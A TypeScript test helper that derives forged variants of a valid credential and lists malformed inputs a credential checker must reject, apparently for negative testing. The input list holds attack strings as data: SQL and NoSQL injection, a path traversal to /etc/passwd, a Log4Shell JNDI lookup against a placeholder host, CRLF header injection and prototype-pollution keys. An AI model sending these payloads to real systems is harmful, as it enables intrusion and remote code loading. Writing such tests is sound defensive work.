/** A way to derive invalid values from a valid one. */
export interface Mutation {
  /** What was done to the value. It ends the sentence "a credential is invalid if". */
  readonly name: string
  make(value: string): readonly string[]
}

const alphabet = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_'

/**
 * The ways to forge a credential. Encodings have unused bits at their ends, and lenient readers skip white
 * space and padding. Each change here is significant, or is one that a reader must not skip.
 */
export const mutations: readonly Mutation[] = [
  {
    name: 'one of its characters is another',
    make: (value) => {
      const last = value.replace(/=+$/, '').length - 1
      const places = new Set([0, 1, Math.floor(last / 3), Math.floor(last / 2), last - 1, last])
      return Array.from(places)
        .filter((at) => at >= 0)
        .map((at) => value.slice(0, at) + another(value.charAt(at)) + value.slice(at + 1))
    },
  },
  {
    name: 'its letters are in another case',
    make: (value) => [value.toUpperCase(), value.toLowerCase()],
  },
  {
    name: 'a part of it is missing',
    make: (value) => {
      const bare = value.replace(/=+$/, '')
      const half = Math.floor(bare.length / 2)
      return [bare.slice(0, -1), value.slice(1), bare.slice(0, half), value.slice(half), '']
    },
  },
  {
    name: 'something follows it',
    make: (value) => [`${value}A`, `${value}-`, `${value}.`, `${value}%`, `${value};`, `${value}:`],
  },
  {
    name: 'something precedes it',
    make: (value) => [`A${value}`, `-${value}`, `.${value}`, `%${value}`, `Bearer ${value}`],
  },
  {
    name: 'it is padded with `=`',
    make: (value) => [`${value}=`, `${value}==`, `=${value}`],
  },
  {
    name: 'it is written twice',
    make: (value) => [
      `${value}${value}`,
      `${value},${value}`,
      `${value}, ${value}`,
      `${value} ${value}`,
    ],
  },
  {
    name: 'it contains white space or a control character',
    make: (value) => {
      const half = Math.max(1, Math.floor(value.length / 2))
      const inside = [' ', '\t', '\r\n', '\0', '\u00a0', '\u200b']
      return [
        ...inside.map((space) => value.slice(0, half) + space + value.slice(half)),
        ...['\n', '\r\n', '\0', '\u200b', '\ufeff'].map((end) => value + end),
        `\ufeff${value}`,
      ]
    },
  },
]

/** Values that are never issued as credentials. */
export const garbage: readonly string[] = [
  '',
  ' ',
  ',',
  ',,,',
  '=',
  ':',
  ';',
  '""',
  '*',
  '%',
  '%00',
  '%zz',
  'null',
  'undefined',
  'true',
  '0',
  '[object Object]',
  '{"$gt":""}',
  "' OR '1'='1",
  '../../etc/passwd',
  '${jndi:ldap://example.invalid/a}',
  ...['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'valueOf'],
  '\0',
  '\r\nx-injected: 1',
  '\u001b[31mred',
  '\u00e4\u00f6\u00fc',
  '\u043a\u043b\u044e\u0447',
  '\u{1f511}',
  '\ud800',
  'a.b.c',
  'e30.e30.',
  'A'.repeat(22),
  'A'.repeat(10_000),
  '='.repeat(10_000),
  ', '.repeat(10_000),
  ' '.repeat(10_000),
  '.'.repeat(10_000),
]

// The other half of the alphabet: the changed bit is one that every encoding uses.
function another(character: string): string {
  const at = alphabet.indexOf(character)
  return at < 0 ? 'A' : alphabet.charAt(at ^ 32)
}
